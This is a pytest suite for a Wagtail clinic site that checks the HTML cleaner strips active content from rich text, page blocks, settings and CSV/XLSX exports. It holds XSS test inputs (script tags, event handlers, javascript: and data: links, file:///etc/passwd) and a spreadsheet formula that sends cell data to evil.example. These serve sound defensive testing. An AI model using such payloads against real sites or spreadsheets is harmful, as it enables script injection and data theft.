"""Editors' rich text: only what is on the list is kept, and only that is shown."""

import json
from datetime import date
from io import BytesIO
from pathlib import Path

import pytest
from django.apps import apps
from django.conf import settings
from django.db import connection
from openpyxl import load_workbook
from tinyhtml5 import parse
from wagtail.blocks import (
    BooleanBlock,
    CharBlock,
    ListBlock,
    RichTextBlock,
    StreamBlock,
    StructBlock,
    TextBlock,
    URLBlock,
)
from wagtail.fields import RichTextField, StreamField
from wagtail.models import Revision

from clinic_pages.links import is_safe_address
from clinic_pages.models import ClinicSettings, StandardPage
from clinic_pages.models.doctors import DoctorPage
from clinic_pages.parts import LINE_FEATURES, TEXT_FEATURES
from clinic_pages.prose import (
    BodyField,
    ProseBlock,
    ProseField,
    clean_shown,
    clean_stored,
)
from home.models import HomePage
from tests.edges.payloads import PAYLOADS
from tests.factories.pages import article, doctor_page, site, standard_page

pytestmark = pytest.mark.django_db

# What readers may find where an editor's rich text stands: elements and attributes.
SHOWN = {("a", ("href", "rel")), ("a", ("rel",))} | {
    (tag, ())
    for tag in ("p", "br", "h2", "h3", "b", "strong", "i", "em", "ol", "ul", "li", "a")
}


def shapes(html):
    """Every kind of element of a page, with the names of its attributes, as a browser
    would build them; and every address in it."""
    elements = [one for one in parse(html).iter() if isinstance(one.tag, str)]
    kinds = {
        (one.tag.rpartition("}")[2], tuple(sorted(one.attrib))) for one in elements
    }
    addresses = {
        value
        for one in elements
        for name, value in one.attrib.items()
        if name in ("href", "src", "action", "formaction", "xlink:href")
    }
    return kinds, addresses


def runs(address):
    bare = "".join(address.split()).lower()
    return bare.startswith(("javascript:", "data:", "vbscript:"))


# --- The cleaner ----------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_acts_passes(payload):
    for cleaned in (clean_stored(payload, TEXT_FEATURES), clean_shown(payload)):
        kinds, addresses = shapes(f"<body>{cleaned}")
        bare = {("html", ()), ("head", ()), ("body", ())}
        assert kinds - bare <= SHOWN | {("a", ()), ("a", ("href",))}
        assert not [one for one in addresses if not is_safe_address(one)]


@pytest.mark.parametrize(
    ("address", "stays"),
    [
        ("https://example.org/a?b=c", True),
        ("http://example.org", True),
        ("mailto:hello@example.org", True),
        ("tel:+442079460120", True),
        ("/book/", True),
        ("//evil.example/", False),
        ("ftp://example.org", False),
        ("JaVaScRiPt:canary(1)", False),
        ("java&#10;script:canary(1)", False),
        ("data:text/html,x", False),
        ("file:///etc/passwd", False),
    ],
)
def test_links_lead_where_links_may(address, stays):
    shown = clean_shown(f'<p><a href="{address}" target="x" onclick="y">go</a></p>')
    assert ('href="' in shown) is stays
    assert shown.startswith("<p><a")
    assert 'rel="noopener"' in shown
    assert "target" not in shown
    assert "onclick" not in shown


def test_a_field_keeps_what_its_editor_offers():
    text = "<h2>Head</h2><p>A <b>bold</b> <i>word</i></p><ul><li>x</li></ul>"
    assert clean_stored(text, TEXT_FEATURES) == text
    line = clean_stored(text, LINE_FEATURES)
    assert line == "Head<p>A <b>bold</b> <i>word</i></p>x"


def test_links_into_the_site_stay_links(db):
    page = standard_page()
    stored = f'<p><a linktype="page" id="{page.pk}">about</a></p>'
    assert clean_stored(stored, LINE_FEATURES) == stored
    assert clean_shown(stored) == ('<p><a href="/about/" rel="noopener">about</a></p>')
    bent = '<p><a linktype="x" id="1 or 1">about</a></p>'
    assert clean_stored(bent, LINE_FEATURES) == "<p><a>about</a></p>"


# --- At every way in ------------------------------------------------------------------

EVIL = '<p onclick="canary(1)">x</p><script>canary(1)</script><img src=x onerror=y>'


def stored(table, column, pk):
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT {column}::text FROM {table} WHERE page_ptr_id = {pk}")  # noqa: S608
        return cursor.fetchone()[0]


def test_what_code_or_an_import_saves_is_clean(db):
    page = doctor_page(about=EVIL)
    assert stored("clinic_pages_doctorpage", "about", page.pk) == "<p>x</p>"
    DoctorPage.objects.filter(pk=page.pk).update(about=EVIL)
    assert stored("clinic_pages_doctorpage", "about", page.pk) == "<p>x</p>"
    # As an import does: JSON, whose blocks nobody looks at before it is saved.
    body = json.dumps([{"type": "text", "value": EVIL, "id": "a" * 36}])
    blank = standard_page(body=body)
    kept = json.loads(stored("clinic_pages_standardpage", "body", blank.pk))
    assert kept[0]["value"] == "<p>x</p>"


def test_deep_in_a_block_too(db):
    asked = {"heading": "Q", "questions": [{"question": "?", "answer": EVIL}]}
    page = standard_page(body=json.dumps([{"type": "questions", "value": asked}]))
    text = stored("clinic_pages_standardpage", "body", page.pk)
    assert "canary" not in text
    assert "<p>x</p>" in text


def test_a_revision_is_clean_too(db):
    page = standard_page()
    page.body = json.dumps([{"type": "text", "value": EVIL}])
    page.save_revision()
    content = Revision.objects.latest("pk").content
    assert "canary" not in json.dumps(content)


def test_what_is_posted_past_the_editor_is_cleaned_and_no_error(client, admin, db):
    page = doctor_page()
    field = DoctorPage._meta.get_field("about").formfield()
    no_such_entity = (
        '{"blocks": [{"key": "a", "text": "x", "type": "unstyled", "depth": 0, '
        '"inlineStyleRanges": [], "entityRanges": [{"offset": 0, "length": 1, '
        '"key": 9}]}], "entityMap": {}}'
    )
    others = ("[]", "{", '{"blocks": 3}', "<p>x</p>", no_such_entity, "[" * 9999)
    for posted in (EVIL, *others):
        value = field.widget.value_from_datadict({"about": posted}, {}, "about")
        assert "canary" not in value
    state = {
        "blocks": [{"key": "a", "text": "x", "type": "unstyled", "depth": 0,
                    "inlineStyleRanges": [],
                    "entityRanges": [{"offset": 0, "length": 1, "key": 0}]}],
        "entityMap": {"0": {"type": "LINK", "mutability": "MUTABLE",
                            "data": {"url": "javascript:canary(1)"}}},
    }  # fmt: skip
    value = field.widget.value_from_datadict({"about": json.dumps(state)}, {}, "about")
    page.about = value
    page.save()
    assert "canary" not in stored("clinic_pages_doctorpage", "about", page.pk)


def test_what_got_into_the_database_around_us_is_shown_clean(client, db):
    page = doctor_page()
    with connection.cursor() as cursor:
        cursor.execute(
            "UPDATE clinic_pages_doctorpage SET about = %s WHERE page_ptr_id = %s",
            [EVIL + "<p><a href='javascript:canary(1)'>Zebedee</a></p>", page.pk],
        )
    shown = client.get(page.url).text
    assert "Zebedee" in shown
    assert "canary" not in shown


# --- In every text of every block -----------------------------------------------------


def filled(block, words):
    """A raw value of a block with `words` in each of its texts."""
    if isinstance(block, StructBlock):
        return {name: filled(one, words) for name, one in block.child_blocks.items()}
    if isinstance(block, ListBlock):
        value = filled(block.child_block, words)
        return [value] if value else []
    if isinstance(block, StreamBlock):
        return [
            {"type": name, "value": filled(one, words)}
            for name, one in block.child_blocks.items()
        ]
    if isinstance(block, CharBlock | TextBlock | RichTextBlock | URLBlock):
        return words
    if isinstance(block, BooleanBlock):
        return True
    choices = getattr(block, "field", None) and getattr(block.field, "choices", None)
    real = [one for one in choices or [] if isinstance(one[1], str) and one[0]]
    is_choice = type(block).__name__ == "ChoiceBlock" and real
    return real[0][0] if is_choice else block.get_prep_value(block.get_default())


def body_of(words):
    """A page's body with every kind of block."""
    block = StandardPage._meta.get_field("body").stream_block
    return json.dumps(filled(block, words))


# All forty one after the other: each that is not text any more shows as an element.
ALL = " ".join(PAYLOADS)


def in_pieces(length):
    """All forty in pieces that fit into a short field."""
    pieces = [""]
    for payload in PAYLOADS:
        if len(pieces[-1]) + len(payload) >= length:
            pieces.append("")
        pieces[-1] += payload[:length]
    return pieces


def test_the_blocks_hold_texts():
    assert body_of("Zebedee").count("Zebedee") > 25


def test_forty_payloads_in_every_text_of_a_page_stay_texts(client):
    """The page, and its preview, are built of the same elements as with harmless words,
    and no others."""
    page = standard_page()

    def looked_at(words, title):
        page.title = page.seo_title = title
        page.search_description = words
        page.body = body_of(words)
        page.save()
        preview = page.make_preview_request()
        return client.get("/about/").text, preview.render().text

    before = [shapes(html)[0] for html in looked_at("Zebedee", "Zebedee")]
    for html, plain in zip(looked_at(ALL, ALL[:250]), before, strict=True):
        kinds, addresses = shapes(html)
        assert kinds - plain <= SHOWN
        assert not [one for one in addresses if runs(one)]
        # They were there to be seen.
        assert html.count("canary") > 400


def test_payloads_in_what_pages_say_of_each_other_stay_texts(client):
    """Titles and summaries in lists, on the page and in schema.org's data."""
    one = article(title="Zebedee", summary="Zebedee", author_name="Zebedee")
    paths = (one.get_parent().url, one.url)
    plain = [shapes(client.get(path).text)[0] for path in paths]
    for piece in in_pieces(120):
        type(one).objects.filter(pk=one.pk).update(
            title=piece, summary=piece, author_name=piece, search_description=piece
        )
        for path, before in zip(paths, plain, strict=True):
            html = client.get(path).text
            kinds, addresses = shapes(html)
            assert kinds - before <= SHOWN
            assert not [each for each in addresses if runs(each)]
            assert "canary" in html


def test_the_frame_of_every_page_shows_the_clinics_words_as_words(client):
    """Name, strapline, footer and the rest of what editors say of the clinic."""
    row = ClinicSettings.for_site(site())
    names = {
        field.name: field.max_length or 250
        for field in ClinicSettings._meta.concrete_fields
        if field.get_internal_type() in ("CharField", "TextField")
        and not field.choices
        and field.name not in ("brand_colour", "phone")
    }
    assert len(names) > 4
    ClinicSettings.objects.filter(pk=row.pk).update(**dict.fromkeys(names, "Zeb"))
    before, _ = shapes(client.get("/nothing/").text)
    seen = 0
    for number, payload in enumerate(PAYLOADS):
        texts = {name: payload[:length] for name, length in names.items()}
        ClinicSettings.objects.filter(pk=row.pk).update(**texts)
        # The pages know that something was written.
        ClinicSettings.objects.get(pk=row.pk).save()
        html = client.get("/nothing/").text
        kinds, addresses = shapes(html)
        assert kinds - before <= SHOWN, number
        assert not [one for one in addresses if runs(one)]
        seen += "canary" in html
    assert seen > 30


def test_no_template_shows_rich_text_past_the_cleaner():
    templates = Path(settings.BASE_DIR, "templates")
    found = [one for one in templates.rglob("*.html") if "|richtext" in one.read_text()]
    assert found == []


def below(block):
    """The block and all within it."""
    yield block
    children = getattr(block, "child_blocks", {}).values()
    for child in [*children, *filter(None, [getattr(block, "child_block", None)])]:
        yield from below(child)


def editors_fields():
    models = (*apps.get_app_config("clinic_pages").get_models(), HomePage)
    return [field for model in models for field in model._meta.concrete_fields]


def test_every_rich_text_of_the_house_is_of_the_kind_that_cleans():
    """Fields and blocks, however deep."""
    bodies = [one for one in editors_fields() if isinstance(one, StreamField)]
    fields = [one for one in editors_fields() if isinstance(one, RichTextField)]
    blocks = [
        block
        for body in bodies
        for block in below(body.stream_block)
        if isinstance(block, RichTextBlock)
    ]
    assert {type(one) for one in fields} == {ProseField}
    assert {type(one) for one in bodies} == {BodyField}
    assert [one.name for one in blocks if not isinstance(one, ProseBlock)] == []
    assert len(blocks) > 20


# --- What the CMS gives out -----------------------------------------------------------


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize("report", ["reviews", "aging-pages"])
def test_a_report_of_the_cms_holds_no_formula(client, admin, report, kind):
    formula = '=HYPERLINK("https://evil.example?"&A1,"x")'
    article(title=formula, author_name=formula, due=date(2026, 3, 17))
    admin.is_superuser = True
    admin.save()
    client.force_login(admin)
    answer = client.get(f"/cms/reports/{report}/?export={kind}")
    assert answer.status_code == 200
    content = b"".join(answer.streaming_content)
    if kind == "csv":
        assert f'"\'{formula.replace(chr(34), chr(34) * 2)}"' in content.decode()
        assert f'\n"{formula[:10]}' not in content.decode()
        return
    cells = [cell for row in load_workbook(BytesIO(content)).active for cell in row]
    found = [cell for cell in cells if "HYPERLINK" in str(cell.value)]
    assert found
    assert {(cell.value[0], cell.data_type) for cell in found} == {("'", "s")}
